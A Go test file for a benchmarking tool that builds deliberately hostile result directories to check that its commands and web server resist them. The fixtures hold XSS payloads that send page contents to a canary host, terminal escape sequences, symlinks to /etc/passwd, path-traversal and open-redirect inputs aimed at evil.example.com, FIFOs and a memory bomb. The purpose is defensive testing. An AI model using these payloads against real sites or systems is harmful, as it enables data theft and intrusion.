package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"isukit/bench/result"
	"isukit/cmd/internal/ui"
	"isukit/infra/infratest"
)

// evilID names a round that somebody wrote to harm its reader; plainID one that isukit wrote.
const evilID, plainID = "20261130T000000Z-evil", "20261129T000000Z-plain"

const outsideText = "text from outside of the round"

// hostileRounds is a directory of rounds with everything in it that could lead out of it, run, hang, or fill the memory. Requests to canary
// would be something that left a page.
func hostileRounds(t *testing.T, canary string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "results")
	outside := filepath.Join(filepath.Dir(dir), "outside")
	script := fmt.Sprintf(`<script>document.title='pwned';fetch('/').then(r=>r.text()).then(t=>fetch('%[1]s/stolen'));new Image().src='%[1]s/image';location='%[1]s/gone'</script>`+
		`<img src="%[1]s/img" onerror="document.title='pwned'"><link rel="preconnect" href="%[1]s"><link rel="stylesheet" href="%[1]s/css"><meta http-equiv="refresh" content="0;url=%[1]s/refresh">`+
		`<iframe src="%[1]s/frame"></iframe><svg xmlns="http://www.w3.org/2000/svg" onload="document.title='pwned'"/>`, canary)
	evil := script + "\x1b]0;pwned\x07\x1b[2J\u009b\u202e"
	r := &result.Round{ID: evilID, Topology: evil, Scenario: evil, Reason: evil, StartedAt: time.Now(), Score: result.Score{Lines: []result.ScoreLine{{Label: evil}}},
		All: result.Endpoint{Name: evil, Hits: 1}, Endpoints: []result.Endpoint{{Name: evil, Hits: 1}}, Errors: []result.ErrorGroup{{Kind: evil, Endpoint: evil, Text: evil, Example: evil}},
		Timeline: []result.Second{{CoresByRole: map[string]float64{evil: 1}, BusyByHost: map[string]float64{evil: 1}}}, Roles: []result.RoleUsage{{Role: evil, Host: evil}}, Hosts: []result.HostUsage{{Host: evil, CPUs: 1}},
		Bottleneck: result.Bottleneck{Resource: evil, Host: evil, Role: evil, Text: evil}, Warnings: []string{evil}, Facts: []result.Fact{{Key: evil, Value: evil}},
		Settings: []result.Settings{{Host: evil, Source: evil, Values: map[string]string{evil: evil}}}, Queries: result.QueryDigest{Queries: []result.Query{{ID: evil, Fingerprint: evil, Example: evil, Explain: evil}}},
		Profiles: []result.Profile{{Name: evil, Host: evil}}, Faults: []result.Fault{{Phase: evil, Text: evil}}, Phases: []result.Phase{{Name: evil, DurationSeconds: 1}}}
	var files []result.File
	for _, name := range []string{"report.html", "page.html", "page.xhtml", "page.svg", "page.txt", "page.log", "page.json", "page.pdf", "page", "page.html.txt", "page.xml", "page.js", "page.css", "hits", "latency.hlog"} {
		files = append(files, result.File{Path: name, About: evil, Write: func(w io.Writer, _ *result.Round) error { _, err := io.WriteString(w, evil); return err }})
	}
	path, err := result.Write(dir, r, files...)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := result.Write(dir, &result.Round{ID: plainID, Passed: true, Score: result.Score{Total: 5, Lines: []result.ScoreLine{}}}); err != nil {
		t.Fatal(err)
	}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(outside, 0o755))
	must(os.WriteFile(filepath.Join(outside, "secret.txt"), []byte(outsideText), 0o644))
	must(os.WriteFile(filepath.Join(outside, "round.json"), []byte(`{"format":1,"id":"x","reason":"`+outsideText+`"}`), 0o644))
	must(os.Symlink("/etc/passwd", filepath.Join(path, "pw.txt")))
	must(os.Symlink("../../outside/secret.txt", filepath.Join(path, "out.txt")))
	must(os.Symlink("../../outside", filepath.Join(path, "updir")))
	must(os.Symlink("/dev/zero", filepath.Join(path, "zero.log")))
	must(syscall.Mkfifo(filepath.Join(path, "pipe.log"), 0o644))
	// The record lists them as well.
	record, err := os.ReadFile(filepath.Join(path, "round.json"))
	must(err)
	var all map[string]any
	must(json.Unmarshal(record, &all))
	for _, name := range []string{"pw.txt", "out.txt", "updir/secret.txt", "zero.log", "pipe.log", "../../outside/secret.txt", "/etc/passwd"} {
		all["artifacts"] = append(all["artifacts"].([]any), map[string]any{"path": name, "size_bytes": 1, "about": "x"})
	}
	record, err = json.Marshal(all)
	must(err)
	must(os.WriteFile(filepath.Join(path, "round.json"), record, 0o644))
	for id, make := range map[string]func(string) error{
		"link": func(p string) error { return os.Symlink(outside, p) },
		"pipe": func(p string) error { return os.Mkdir(p, 0o755) },
		"zero": func(p string) error {
			return os.Mkdir(p, 0o755)
		},
		"record": func(p string) error { return os.Mkdir(p, 0o755) },
		"bomb":   func(p string) error { return os.Mkdir(p, 0o755) },
	} {
		must(make(filepath.Join(dir, "20261128T000000Z-"+id)))
	}
	must(syscall.Mkfifo(filepath.Join(dir, "20261128T000000Z-pipe", "round.json"), 0o644))
	must(os.Symlink("/dev/zero", filepath.Join(dir, "20261128T000000Z-zero", "round.json")))
	must(os.Symlink(filepath.Join(outside, "round.json"), filepath.Join(dir, "20261128T000000Z-record", "round.json")))
	must(os.WriteFile(filepath.Join(dir, "20261128T000000Z-bomb", "round.json"), []byte(`{"format":1,"id":"x","timeline":[`+strings.Repeat("{},", 8<<20)+`{}]}`), 0o644))
	must(syscall.Mkfifo(filepath.Join(dir, ".live.json"), 0o644))
	return dir
}

// finishes fails the test when do takes longer than a minute.
func finishes(t *testing.T, what string, do func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); do() }()
	select {
	case <-done:
	case <-time.After(time.Minute):
		t.Fatalf("%s: not done after a minute", what)
	}
}

func TestCommandsMeetAHostileRound(t *testing.T) {
	t.Parallel()
	dir := hostileRounds(t, "http://127.0.0.1:1")
	met := map[string]bool{"serve": true} // it has a test of its own
	defer func() {
		for _, c := range allCommands(t) {
			if name, _, _ := strings.Cut(pathOf(c), " "); c.Flag("results") != nil && c.Runnable() && !met[name] && !slices.Contains([]string{"round", "observe", "final"}, name) { // these write rounds
				t.Errorf("%s reads rounds and does not meet the hostile ones", pathOf(c))
			}
		}
	}()
	for _, args := range [][]string{
		{"ls"}, {"ls", "--json"}, {"show", evilID}, {"show", evilID, "--json"}, {"diff", plainID, evilID}, {"diff", evilID, plainID, "--json"}, {"compare", plainID, evilID}, {"hits", evilID}, {"hits", evilID, "--json"},
		{"latency", evilID}, {"show", "20261128T000000Z-link"}, {"show", "20261128T000000Z-pipe"}, {"show", "20261128T000000Z-zero"}, {"show", "20261128T000000Z-record"}, {"show", "20261128T000000Z-bomb"},
		{"show", evilID, "--brief"}, {"diff", plainID, evilID, "--brief"}, {"doctor", evilID}, {"doctor", "20261128T000000Z-pipe"}, {"advise", evilID}, {"restore", evilID}, {"note", "20261128T000000Z-link", "text"},
		{"notify", evilID}, {"next"}, {"screen", "resume"}, {"autotune", "resume"},
		{"compare", "topology=x", "topology=y"}, {"show", filepath.Join(dir, "20261128T000000Z-pipe")}, {"hits", filepath.Join(dir, evilID)},
	} {
		met[args[0]] = true
		finishes(t, strings.Join(args, " "), func() {
			_, out, errs := isukitIn(t, "", append(args, "--results", dir)...)
			for _, r := range out + errs {
				if r < ' ' && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0x202e {
					t.Errorf("%v prints %q", args, r)
					break
				}
			}
			if strings.Contains(out+errs, outsideText) || strings.Contains(out+errs, "root:x:") {
				t.Errorf("%v reads what is outside of the round", args)
			}
			if len(args) > 2 && args[2] == "--json" && args[0] == "show" && !json.Valid([]byte(out)) {
				t.Errorf("%v: not JSON", args)
			}
		})
	}
}

// evilPaths are those of every page and file of the hostile rounds.
func evilPaths() []string {
	paths := []string{"/", "/diff?a=" + plainID + "&b=" + evilID, "/diff?a=" + evilID + "&b=20261128T000000Z-link", "/live", "/rounds/last/report.html"}
	for _, name := range []string{"report.html", "round.json", "page.html", "page.xhtml", "page.svg", "page.txt", "page.log", "page.json", "page.pdf", "page", "page.html.txt", "page.xml", "page.js", "page.css", "hits",
		"pw.txt", "out.txt", "updir/secret.txt", "zero.log", "pipe.log", "../../outside/secret.txt", "%2e%2e/%2e%2e/outside/secret.txt", "/etc/passwd"} {
		paths = append(paths, "/rounds/"+evilID+"/"+name)
	}
	for _, id := range []string{"link", "pipe", "zero", "record", "bomb"} {
		paths = append(paths, "/rounds/20261128T000000Z-"+id+"/report.html", "/rounds/20261128T000000Z-"+id+"/round.json", "/rounds/20261128T000000Z-"+id+"/secret.txt")
	}
	return paths
}

func TestServeMeetsAHostileRound(t *testing.T) {
	server := httptest.NewServer(newRoundServer(hostileRounds(t, "http://127.0.0.1:1")).handler())
	defer server.Close()
	client := &http.Client{Timeout: time.Minute, CheckRedirect: func(req *http.Request, _ []*http.Request) error {
		if req.URL.Host != strings.TrimPrefix(server.URL, "http://") {
			t.Errorf("sent to %s", req.URL)
		}
		return nil
	}}
	for _, path := range evilPaths() {
		resp, err := client.Get(server.URL + path)
		if err != nil {
			t.Errorf("%s: %v", path, err)
			continue
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if strings.Contains(string(body), outsideText) || strings.Contains(string(body), "root:x:") {
			t.Errorf("%s shows what is outside of the round", path)
		}
		policy, kind := resp.Header.Get("Content-Security-Policy"), resp.Header.Get("Content-Type")
		own := path == "/" || strings.HasPrefix(path, "/diff") || strings.HasSuffix(path, "/report.html")
		if !strings.Contains(policy, "default-src 'none'") || !own && !strings.HasPrefix(policy, "sandbox;") || strings.Contains(policy, "unsafe") || resp.Header.Get("X-Content-Type-Options") != "nosniff" || resp.Header.Get("Referrer-Policy") != "no-referrer" {
			t.Errorf("%s: policy %q, %v", path, policy, resp.Header)
		}
		if !own && strings.Contains(kind, "html") || strings.Contains(kind, "svg") || strings.Contains(kind, "xml") {
			t.Errorf("%s is served as %s", path, kind)
		}
		if path == "/rounds/last/report.html" && resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %s", path, resp.Status)
		}
	}
}

func TestServeRedirectsStayHere(t *testing.T) {
	h := newRoundServer(keptRounds(t))
	h.token = "0123456789abcdef"
	for _, path := range []string{"//evil.example.com/", "/\\evil.example.com/", "//evil.example.com", "/%5cevil.example.com/", "/%2fevil.example.com/", "/a%0d%0aX: y"} {
		req := httptest.NewRequest(http.MethodGet, "/?token="+h.token, nil)
		req.URL.Path = strings.NewReplacer("%5c", "\\", "%2f", "/", "%0d", "\r", "%0a", "\n").Replace(path)
		w := httptest.NewRecorder()
		h.handler().ServeHTTP(w, req)
		to := w.Header().Get("Location")
		if w.Code != http.StatusSeeOther || !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.ContainsAny(to, "\\\r\n") {
			t.Errorf("%q leads to %q (%d)", path, to, w.Code)
		}
	}
	for _, c := range []struct{ site, mode, dest string }{{"cross-site", "no-cors", "image"}, {"same-site", "cors", "empty"}, {"cross-site", "navigate", "iframe"}} {
		req := httptest.NewRequest(http.MethodGet, "http://127.0.0.1/", nil)
		req.Header.Set("Sec-Fetch-Site", c.site)
		req.Header.Set("Sec-Fetch-Mode", c.mode)
		req.Header.Set("Sec-Fetch-Dest", c.dest)
		w := httptest.NewRecorder()
		newRoundServer(t.TempDir()).handler().ServeHTTP(w, req)
		if w.Code != http.StatusForbidden {
			t.Errorf("%v: %d", c, w.Code)
		}
	}
}

// TestServeInChromium opens every page and every file of the hostile rounds: no script of theirs runs, and nothing leaves.
func TestServeInChromium(t *testing.T) {
	t.Parallel()
	b := infratest.StartBrowser(t)
	var left atomic.Int64
	var seen sync.Map
	canary := httptest.NewUnstartedServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { seen.Store(r.URL.Path, true) }))
	canary.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			left.Add(1)
		}
	}
	canary.Start()
	defer canary.Close()
	server := httptest.NewServer(newRoundServer(hostileRounds(t, canary.URL)).handler())
	defer server.Close()
	for _, path := range evilPaths() {
		_ = b.Send("Page.navigate", map[string]any{"url": server.URL + path}, nil) // a saved decode that is not shown is not an error
		var title, href string
		for range 100 {
			if b.Eval("document.readyState + ' ' + location.href", &href); strings.HasPrefix(href, "complete ") {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
		if b.Eval("document.title", &title); strings.Contains(title, "pwned") && !strings.Contains(title, "<script>") {
			t.Errorf("%s: a script of the round ran: %s", path, title)
		}
		if strings.Contains(href, canary.URL) {
			t.Errorf("%s: the page is left for %s", path, href)
		}
	}
	// The page of a round still works: its own script draws.
	b.OpenURL(server.URL + "/rounds/" + evilID + "/report.html")
	var works bool
	if b.Eval("!document.getElementById('theme').hidden", &works); !works {
		t.Error("the page's own script does not run")
	}
	if n := left.Load(); n > 0 {
		t.Errorf("%d connections left the pages", n)
		seen.Range(func(path, _ any) bool { t.Log(path); return true })
	}
}

// TestForeignProject: a project file that is new to the machine, or has changed, runs nothing without consent.
func TestForeignProject(t *testing.T) {
	t.Setenv("ISUKIT_YES", "0")
	dir, state := standIn(t, "", "touch ran; echo '{\"pass\":true,\"score\":5}'"), t.TempDir()
	file, results := filepath.Join(dir, "isukit.yaml"), filepath.Join(dir, "results")
	ran := func() bool {
		_, err := os.Stat(filepath.Join(dir, "ran"))
		_ = os.Remove(filepath.Join(dir, "ran"))
		return err == nil
	}
	round := func(more ...string) (int, string) {
		code, _, errs := isukitState(t, state, append([]string{"round", "-q", "--project", file, "--results", results}, more...)...)
		return code, errs
	}
	if code, errs := round(); code != ui.ExitUsage || ran() || !strings.Contains(errs, "touch ran") || !strings.Contains(errs, "--yes") {
		t.Errorf("a new file: exit %d\n%s", code, errs)
	}
	if code, errs := round("--yes"); code != ui.ExitOK || !ran() {
		t.Errorf("with --yes: exit %d\n%s", code, errs)
	}
	if code, errs := round(); code != ui.ExitOK || !ran() || strings.Contains(errs, "touch ran") {
		t.Errorf("a file that is known: exit %d\n%s", code, errs)
	}
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	write(t, file, "# a comment changes nothing\n"+string(text))
	if code, errs := round(); code != ui.ExitOK || !ran() {
		t.Errorf("with a comment: exit %d\n%s", code, errs)
	}
	write(t, file, strings.Replace(string(text), "touch ran", "touch ran; true", 1))
	if code, errs := round(); code != ui.ExitUsage || ran() || !strings.Contains(errs, "has changed") {
		t.Errorf("a changed file: exit %d\n%s", code, errs)
	}
	for _, args := range [][]string{{"observe"}, {"final"}, {"doctor"}, {"compare", "run=true", "run=false", "--results", results, "--both"},
		{"screen", "mysql/memory", "--results", results, "--round"}, {"autotune", "mysql/memory", "--results", results, "--round"}} {
		more := []string{"--project", file}
		if strings.HasPrefix(args[len(args)-1], "--") {
			more = []string{"--project " + file}
		}
		if code, _, errs := isukitState(t, state, append(args, more...)...); code != ui.ExitUsage || !strings.Contains(errs, "is not trusted") || ran() {
			t.Errorf("%s: exit %d\n%s", args, code, errs)
		}
	}
	if code, out, errs := isukitState(t, state, "next", "--project", file, "--results", results); code != ui.ExitOK || !strings.Contains(out, "isukit") || ran() {
		t.Errorf("next, which runs nothing: exit %d\n%s%s", code, out, errs)
	}
}

func TestStateDirectoryIsOnesOwn(t *testing.T) {
	state := filepath.Join(t.TempDir(), "state")
	if err := os.Mkdir(state, 0o755); err != nil {
		t.Fatal(err)
	}
	for mode, want := range map[os.FileMode]int{0o755: ui.ExitOK, 0o700: ui.ExitOK, 0o777: ui.ExitUsage, 0o775: ui.ExitUsage, 0o1777: ui.ExitUsage} {
		if err := syscall.Chmod(state, uint32(mode)); err != nil {
			t.Fatal(err)
		}
		if code, _, errs := isukitState(t, state, "version"); code != want {
			t.Errorf("mode %o: exit %d, %s", mode, code, errs)
		}
	}
}
